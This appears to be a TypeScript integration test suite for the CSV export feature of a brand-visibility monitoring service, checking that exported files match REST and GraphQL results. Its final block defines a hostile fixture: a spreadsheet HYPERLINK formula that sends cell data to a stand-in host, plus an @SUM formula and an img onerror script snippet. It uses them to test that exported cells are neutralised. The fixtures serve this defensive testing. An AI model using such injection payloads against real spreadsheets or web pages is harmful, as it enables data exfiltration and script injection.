import type { Platform } from '../../src/entities/vocabulary.js';
import { importAnswers } from '../../src/monitoring/ingest/import-answers.js';
import { fileOf } from '../monitoring/monitored-project.js';
import { liftLimits, useApi } from '../support/api.js';
import { readTable } from '../support/csv.js';
import { dataOf, first } from '../support/expectations.js';
import { askGraphql } from '../support/graphql.js';
import {
  addCandidate,
  addCitations,
  addMentions,
  addResponses,
  candidateOf,
  selectAnalysis,
} from '../support/history.js';
import { type HolderSession, liftHolderLimits, openHolder } from '../support/holder-session.js';
import { createCompetitor, createProject, createPrompt } from '../support/resources.js';

/** What the files hold: the numbers that REST and GraphQL have for the same question. */

const api = useApi();
const PLATFORMS: Platform[] = ['chatgpt', 'claude', 'gemini', 'perplexity'];
const DAYS = ['2026-03-17', '2026-04-30', '2026-05-16', '2026-06-07', '2026-06-08', '2026-06-15'];
const WINDOWS = ['7d', '30d', '90d'];

type Row = Record<string, unknown>;

let holder: HolderSession;
let projectId: string;

beforeAll(async () => {
  holder = await openHolder(api);
  await Promise.all([liftLimits(holder.caller), liftHolderLimits(holder)]);
});

async function download(file: string, parameters: object): Promise<Record<string, string>[]> {
  const search = new URLSearchParams({ project: projectId, ...parameters });
  const response = await fetch(`${api.url}/dashboard/export/${file}.csv?${search}`, { headers: holder.headers });
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer());
  if (response.status !== 200) throw new Error(text);
  return readTable(text);
}

async function ask<Found>(query: string): Promise<Found> {
  const { body } = await askGraphql(holder.caller, query);
  expect(body.errors).toBeUndefined();
  // Shaped by the query that each test sends.
  return body.data as Found;
}

/** A value as a file writes it. */
const written = (value: unknown) => (value === null ? '' : String(value));
const enumOf = (platform: string) => platform.toUpperCase();

describe('the daily files', () => {
  beforeAll(async () => {
    ({ id: projectId } = await createProject(holder.caller, { brand_name: 'Northwind "&" Söhne, Tee' }));
    const competitor = await createCompetitor(holder.caller, projectId);
    const subjects = [
      projectId,
      await candidateOf(holder.caller, competitor.id),
      await addCandidate(holder.caller, projectId),
    ];
    const history = await selectAnalysis(holder.caller, projectId, subjects.slice(1, 2));
    const buckets = DAYS.flatMap((date, day) =>
      PLATFORMS.map((platform, at) => ({ date, platform, n: 10 * day + at + 1 })),
    );
    await addResponses(
      history,
      buckets.map(({ n, ...bucket }) => ({ ...bucket, responses: 3 * n, naming: 2 * n, positive: n, mixed: n })),
    );
    await addMentions(
      history,
      buckets.flatMap(({ n, ...bucket }) =>
        subjects.map((subject, at) => ({ ...bucket, subject, mentions: n + at, responses: n })),
      ),
    );
    await addCitations(
      history,
      buckets.flatMap(({ n, ...bucket }) => [
        { ...bucket, domain: 'a.example', citations: 5 * n },
        { ...bucket, domain: 'b.example', citations: n },
      ]),
    );
  });

  const FIELDS = {
    visibility: 'visibilityScore brandMentionCount responseCount',
    mentions: 'name isBrand competitorCandidateId competitorId mentionCount responseCount',
    citations: 'domain citationCount responseCount',
    sentiment: 'positive neutral negative mixed total',
  };
  const cases = Object.entries(FIELDS).flatMap(([file, fields]) =>
    WINDOWS.flatMap((window) =>
      [[], ...PLATFORMS.map((one) => [one]), ['claude', 'chatgpt']].map((platforms) => ({
        file,
        fields,
        window,
        platforms,
      })),
    ),
  );

  test.each(cases)('$file of $window and $platforms is the flat table of GraphQL', async (asked) => {
    const { file, fields, window, platforms } = asked;
    const chosen = platforms.length > 0 ? `, platforms: [${platforms.map(enumOf).join(', ')}]` : '';
    const args = `projectIds: ["${projectId}"], window: D${window.slice(0, -1)}, limit: 1000${chosen}`;
    const data = await ask<Record<string, Row[]>>(
      `{ rows: ${file}Daily(${args}) { projectId projectName platform date ${fields} } }`,
    );
    const rows = data['rows'] ?? [];
    expect(rows.length).toBeGreaterThan(0);
    const found = await download(file, { window, ...(platforms.length > 0 && { platforms: platforms.join(',') }) });
    expect(found.map((row) => Object.values(row))).toEqual(
      rows
        .map(({ platform, ...row }) => Object.values({ ...row, platform: String(platform).toLowerCase() }).map(written))
        .map(([id, name, ...rest]) => [id, name, rest.at(-1), ...rest.slice(0, -1)]),
    );
  });

  test('names its columns as the wire does', async () => {
    expect(Object.keys(first(await download('mentions', {})))).toEqual([
      'project_id',
      'project_name',
      'platform',
      'date',
      'name',
      'is_brand',
      'competitor_candidate_id',
      'competitor_id',
      'mention_count',
      'response_count',
    ]);
  });

  test.each(WINDOWS)('add up to the metrics of REST for %s', async (window) => {
    // Each body is as the specification shapes it.
    const get = async <Wire>(path: string) =>
      ((await holder.caller.get(`/projects/${projectId}/${path}?window=${window}`)).body as { data: Wire }).data;
    const sum = (rows: Record<string, string>[], name: string) => rows.reduce((all, row) => all + Number(row[name]), 0);
    const visibility = await get<{ by_platform: Record<string, Record<string, number>> }>('visibility');
    const file = await download('visibility', { window });
    for (const platform of PLATFORMS) {
      const own = file.filter((row) => row['platform'] === platform);
      expect(visibility.by_platform[platform]).toMatchObject({
        response_count: sum(own, 'response_count'),
        brand_mention_count: sum(own, 'brand_mention_count'),
      });
    }
    const { sentiment } = await get<{ sentiment: Record<string, number> }>('sentiment');
    const tones = await download('sentiment', { window });
    for (const [tone, count] of Object.entries(sentiment)) expect(sum(tones, tone)).toBe(count);
    const citations = await get<{ domain: string; citation_count: number }[]>('citations');
    const cited = await download('citations', { window });
    for (const { domain, citation_count } of citations) {
      expect(
        sum(
          cited.filter((row) => row['domain'] === domain),
          'citation_count',
        ),
      ).toBe(citation_count);
    }
  });

  test('mentions are REST’s buckets, each once', async () => {
    const answer = await holder.caller.get(`/projects/${projectId}/mentions?window=90d&limit=100`);
    const { data } = answer.body as { data: { mentions: Row[] } };
    const keyOf = (row: Row) =>
      [
        row['date'] ?? row['bucket_date'],
        row['platform'] ?? row['provider'],
        ...['competitor_candidate_id', 'mention_count', 'response_count'].map((name) => written(row[name] ?? null)),
      ].join();
    const file = await download('mentions', { window: '90d' });
    expect(file.map(keyOf).toSorted()).toEqual(data.mentions.map(keyOf).toSorted());
  });

  test('of a project that was never analysed have a header alone', async () => {
    const { id } = await createProject(holder.caller);
    expect(await download('citations', { project: id })).toEqual([]);
  });

  test('of an archived project keep its history, and its lists are gone', async () => {
    const { id } = await createProject(holder.caller);
    const history = await selectAnalysis(holder.caller, id);
    await addResponses(history, [{ date: '2026-06-10', platform: 'claude', responses: 3, naming: 1 }]);
    await holder.caller.delete(`/projects/${id}`);
    expect(await download('visibility', { project: id })).toMatchObject([{ response_count: '3' }]);
    await expect(download('prompts', { project: id })).rejects.toThrow('Project not found');
  });
});

describe('the lists', () => {
  beforeAll(async () => {
    ({ id: projectId } = await createProject(holder.caller));
  });

  test('prompts are REST’s, with their platforms and tags in one cell each', async () => {
    await createPrompt(holder.caller, projectId, { tags: ['=1+1', 'tea'], category: 'a "quoted", one' });
    await createPrompt(holder.caller, projectId, { prompt_text: '+41 of what?', platforms: ['claude', 'chatgpt'] });
    const rest = dataOf<Row[]>(await holder.caller.get(`/projects/${projectId}/prompts`));
    const found = await download('prompts', { window: '7d' });
    expect(found).toEqual(
      rest.map((row) => ({
        ...Object.fromEntries(Object.entries(row).map(([name, value]) => [name, written(value)])),
        platforms: (row['platforms'] as string[]).join('; '),
        tags: (row['tags'] as string[]).length > 0 ? "'=1+1; tea" : '',
        prompt_text: String(row['prompt_text']).replace(/^\+/, "'+"),
      })),
    );
    expect(found.filter((row) => row['prompt_text'] === "'+41 of what?")).toHaveLength(1);
  });

  test('competitors are REST’s, with empty cells where nothing is known', async () => {
    const known = await createCompetitor(holder.caller, projectId, { name: 'Known' });
    const history = await selectAnalysis(holder.caller, projectId, [await candidateOf(holder.caller, known.id)]);
    const day = { date: '2026-06-10', platform: 'claude' as const, responses: 3 };
    await addResponses(history, [{ ...day, naming: 1 }]);
    await addMentions(history, [{ ...day, subject: await candidateOf(holder.caller, known.id), mentions: 4 }]);
    await createCompetitor(holder.caller, projectId, { name: 'Unknown' });
    const rest = dataOf<Row[]>(await holder.caller.get(`/projects/${projectId}/competitors`));
    expect(rest.map((row) => row['total_mentions_count'])).toEqual(expect.arrayContaining([4, undefined]));
    const { project } = await ask<{ project: { brands: Standing[] } }>(
      `{ project(id: "${projectId}") { brands(tracked: true) { competitorId adjustedConfidence { low high }
        againstBrand { verdict difference } previous { verdict } ${PLACED} } } }`,
    );
    const standingOf = (id: unknown) => project.brands.find(({ competitorId }) => competitorId === id);
    expect(standingOf(known.id)?.adjustedConfidence).toEqual(expect.anything());
    expect(await download('competitors', {})).toEqual(
      rest.map((row) => ({
        total_mentions_count: '',
        visibility_score: '',
        market_share: '',
        first_seen_at: '',
        last_seen_at: '',
        ...Object.fromEntries(Object.entries(row).map(([name, value]) => [name, written(value)])),
        ...standingCells(standingOf(row['id'])),
        ...placeCells(standingOf(row['id'])),
      })),
    );
  });

  test('competitors have where answers name them, as GraphQL has it', async () => {
    const { id } = await createProject(holder.caller);
    for (const name of ['Contoso', 'Fabrikam']) await createCompetitor(holder.caller, id, { name });
    const answer = '1. **Contoso** – cheap\n2. **Northwind** – good\n3. **Fabrikam** – new';
    const lines = Array.from({ length: 48 }, (_, at) => {
      const day = at % 2 === 0 ? '2026-06-10' : '2026-05-10';
      const place = { external_id: `${at}`, platform: 'claude', question: `Ask ${Math.floor(at / 2) % 6}?` };
      return JSON.stringify({
        ...place,
        answer: at === 2 ? 'Fabrikam alone.' : answer,
        answered_at: `${day}T09:00:00Z`,
      });
    });
    await importAnswers(api.db, { projectId: id }, fileOf(lines));
    const { project } = await ask<{ project: { brands: Standing[] } }>(
      `{ project(id: "${id}") { brands(tracked: true) { ${PLACED} } } }`,
    );
    const found = await download('competitors', { project: id });
    expect(found).toHaveLength(2);
    for (const row of found) {
      const standing = project.brands.find(({ competitorId }) => competitorId === row['id']);
      expect(Object.values(placeCells(standing))).not.toContain('');
      expect(row).toMatchObject(placeCells(standing));
    }
  });

  test('brands are the brand and its competitors in the period, as GraphQL has them, verdicts included', async () => {
    const { id } = await createProject(holder.caller);
    for (const name of ['Contoso', 'Fabrikam']) await createCompetitor(holder.caller, id, { name });
    const listOf = (...names: string[]) => names.map((name, at) => `${at + 1}. **${name}** – fine`).join('\n');
    const [then, since] = [listOf('Contoso', 'Fabrikam', 'Northwind'), listOf('Northwind', 'Contoso')];
    const lines = Array.from({ length: 96 }, (_, at) => {
      const isNow = at % 2 === 0;
      return JSON.stringify({
        ...{
          external_id: `${at}`,
          platform: (at >> 4) % 2 === 0 ? 'claude' : 'chatgpt',
          question: `Ask ${(at >> 1) % 8}?`,
        },
        ...{ answer: isNow ? since : then, answered_at: `${isNow ? '2026-06-10' : '2026-06-03'}T09:00:00Z` },
      });
    });
    await importAnswers(api.db, { projectId: id }, fileOf(lines));
    for (const platform of [undefined, 'claude']) {
      const platforms = platform ? `, platforms: [${platform.toUpperCase()}]` : '';
      const { project } = await ask<{ project: { brands: (Standing & Row)[] } }>(
        `{ project(id: "${id}") { brands(window: D7, tracked: true${platforms}) { name isBrand mentionCount
          responseCount wholeCount visibilityScore share adjustedConfidence { low high }
          againstBrand { verdict difference } ${PLACED.replace('previous {', 'previous { verdict')} } } }`,
      );
      const found = await download('brands', { project: id, window: '7d', ...(platform && { platforms: platform }) });
      expect(found.map((row) => row['name'])).toEqual(['Northwind', 'Contoso', 'Fabrikam']);
      expect(found[0]).toMatchObject({
        ...{ is_brand: 'true', competitor_id: '', against_brand: '', first_named_percent: '100', mean_rank: '1' },
        ...{ first_named_change: 'moved_up', mean_rank_change: 'moved_up' },
      });
      expect(found).toEqual(
        project.brands.map((brand) => ({
          ...{ project_id: id, name: brand['name'], is_brand: written(brand['isBrand'] ?? null) },
          competitor_id: brand.competitorId ?? '',
          mention_count: written(brand['mentionCount'] ?? null),
          response_count: written(brand['responseCount'] ?? null),
          whole_count: written(brand['wholeCount'] ?? null),
          visibility_score: written(brand['visibilityScore'] ?? null),
          share: written(brand['share'] ?? null),
          ...standingCells(brand),
          change: (brand.previous as unknown as { verdict: string }).verdict.toLowerCase(),
          ...placeCells(brand),
        })),
      );
    }
  });
});

const PLACED = `competitorId firstNamedCount firstNamedPercent firstNamedConfidence { low high } meanRank rankedCount
  meanRankInterval { low high } prominence prominenceConfidence { low high }
  previous { firstNamedVerdict meanRankVerdict prominenceVerdict }`;

interface Interval {
  low: number;
  high: number;
}

interface Standing {
  competitorId: string | null;
  firstNamedCount: number | null;
  firstNamedPercent: number | null;
  firstNamedConfidence: Interval | null;
  meanRank: number | null;
  rankedCount: number | null;
  meanRankInterval: Interval | null;
  prominence: number | null;
  prominenceConfidence: Interval | null;
  previous: { firstNamedVerdict: string; meanRankVerdict: string; prominenceVerdict: string } | null;
  adjustedConfidence: { low: number; high: number } | null;
  againstBrand: { verdict: string; difference: number } | null;
}

/** What GraphQL says of a competitor's share beyond its sums, as cells; empty where it was not looked for. */
function standingCells(standing: Standing | undefined) {
  return {
    visibility_low: written(standing?.adjustedConfidence?.low ?? null),
    visibility_high: written(standing?.adjustedConfidence?.high ?? null),
    against_brand: standing?.againstBrand?.verdict.toLowerCase() ?? '',
    against_brand_points: written(standing?.againstBrand?.difference ?? null),
    change: standing?.againstBrand ? 'too_few_answers' : '',
  };
}

/**
 * What GraphQL says of where a competitor is named, as cells; empty where it was not looked for. There is a verdict
 * also where the period before has no answers.
 */
function placeCells(standing: Standing | undefined) {
  const isSought = typeof standing?.firstNamedCount === 'number';
  const verdict = (told: string | undefined) => (isSought ? (told?.toLowerCase() ?? 'too_few_answers') : '');
  return {
    first_named_count: written(standing?.firstNamedCount ?? null),
    first_named_percent: written(standing?.firstNamedPercent ?? null),
    first_named_low: written(standing?.firstNamedConfidence?.low ?? null),
    first_named_high: written(standing?.firstNamedConfidence?.high ?? null),
    first_named_change: verdict(standing?.previous?.firstNamedVerdict),
    mean_rank: written(standing?.meanRank ?? null),
    ranked_count: written(standing?.rankedCount ?? null),
    mean_rank_low: written(standing?.meanRankInterval?.low ?? null),
    mean_rank_high: written(standing?.meanRankInterval?.high ?? null),
    mean_rank_change: verdict(standing?.previous?.meanRankVerdict),
    prominence: written(standing?.prominence ?? null),
    prominence_low: written(standing?.prominenceConfidence?.low ?? null),
    prominence_high: written(standing?.prominenceConfidence?.high ?? null),
    prominence_change: verdict(standing?.previous?.prominenceVerdict),
  };
}

describe('the answers', () => {
  const HOSTILE = '=HYPERLINK("http://evil.example?"&A1,"Northwind")\r\n@SUM(1)\t,"",\'\u2028<img onerror=alert(1)> 🍵';
  const LONG = `Northwind is excellent. ${'"=1,\r\n'.repeat(150_000)}`;

  beforeAll(async () => {
    ({ id: projectId } = await createProject(holder.caller));
    await createPrompt(holder.caller, projectId, { prompt_text: '-2+3, which tea?' });
    const line = (external_id: string, fields: object) =>
      JSON.stringify({ external_id, platform: 'chatgpt', question: 'Other?', ...fields });
    const [days] = [['2026-06-13', '2026-06-01', '2026-05-01', '2026-03-20']];
    const usual = PLATFORMS.flatMap((platform) =>
      days.flatMap((day) =>
        ['- **Others**: dear\n- **Northwind**: excellent, and cheap.', 'Neither.'].map((answer, at) =>
          line(`${platform}${day}${at}`, { platform, answer, answered_at: `${day}T09:00:00.25Z` }),
        ),
      ),
    );
    const citations = ['https://teapress.com/1', 'https://brewers.org/2', 'https://teapress.com/3'].map((url) => ({
      url,
    }));
    const model = '+claude';
    await importAnswers(
      api.db,
      { projectId },
      fileOf([
        ...usual,
        line('hostile', {
          question: '-2+3, which tea?',
          model,
          answer: HOSTILE,
          citations,
          answered_at: '2026-06-12T10:00:00Z',
        }),
        ...Array.from({ length: 2 }, (_, at) => line(`${at}`, { answer: LONG, answered_at: '2026-06-11T10:00:00Z' })),
      ]),
    );
  });

  interface Answered extends Row {
    id: string;
    platform: string;
    answeredAt: string;
    brandMentions: object[];
    mentions: { isBrand: boolean; rank: number | null }[];
    citations: { domain: string }[];
    prompt: { id: string } | null;
  }

  const asked = WINDOWS.flatMap((window) => [undefined, ...PLATFORMS].map((platform) => ({ window, platform })));

  test.each(asked)('of $window and $platform are those of GraphQL, with what was seen in them', async (of) => {
    const { window, platform } = of;
    const found = await download('answers', { window, ...(platform && { platforms: platform }) });
    const narrowed = platform ? `, platform: ${enumOf(platform)}` : '';
    const { project } = await ask<{ project: { responses: { nodes: Answered[] } } }>(
      `{ project(id: "${projectId}") { responses(first: 100, window: D${window.slice(0, -1)}${narrowed}) { nodes {
        id platform model answeredAt prompt { id } brandMentions { start } citations { domain } sentiment
        sentimentSource evidence mentions { isBrand rank }
      } } } }`,
    );
    const { nodes } = project.responses;
    expect(nodes.length).toBeGreaterThan(0);
    expect(found.map(({ text, prompt_text, evidence, model, ...row }) => row)).toEqual(
      nodes.map((node) => ({
        id: node.id,
        project_id: projectId,
        prompt_id: node.prompt?.id ?? '',
        platform: node.platform.toLowerCase(),
        answered_at: node.answeredAt,
        is_brand_named: String(node.brandMentions.length > 0),
        sentiment: written(node['sentiment']).toLowerCase(),
        sentiment_source: written(node['sentimentSource']).toLowerCase(),
        cited_domains: [...new Set(node.citations.map(({ domain }) => domain))].join('; '),
        brand_rank: written(node.mentions.find(({ isBrand }) => isBrand)?.rank ?? null),
      })),
    );
    const inert = (value: unknown) => written(value).replace(/^(?=[=+\-@\t\r])/, "'");
    expect(found.map(({ evidence, model }) => [evidence, model])).toEqual(
      nodes.map(({ evidence, model }) => [inert(evidence), inert(model)]),
    );
  });

  test('hostile texts have an apostrophe before each formula, each text in its cell, however long', async () => {
    const found = await download('answers', { from: '2026-06-11', to: '2026-06-12' });
    const hostile = first(found);
    expect(hostile).toMatchObject({
      prompt_text: "'-2+3, which tea?",
      model: "'+claude",
      is_brand_named: 'true',
      cited_domains: 'teapress.com; brewers.org; evil.example',
      text: `'${HOSTILE.replace('@SUM', "'@SUM")}`,
    });
    const marked = LONG.replaceAll('\n"=1', '\n"\'=1');
    expect(found.slice(1).map(({ text }) => text)).toEqual([marked, marked]);
  });
});
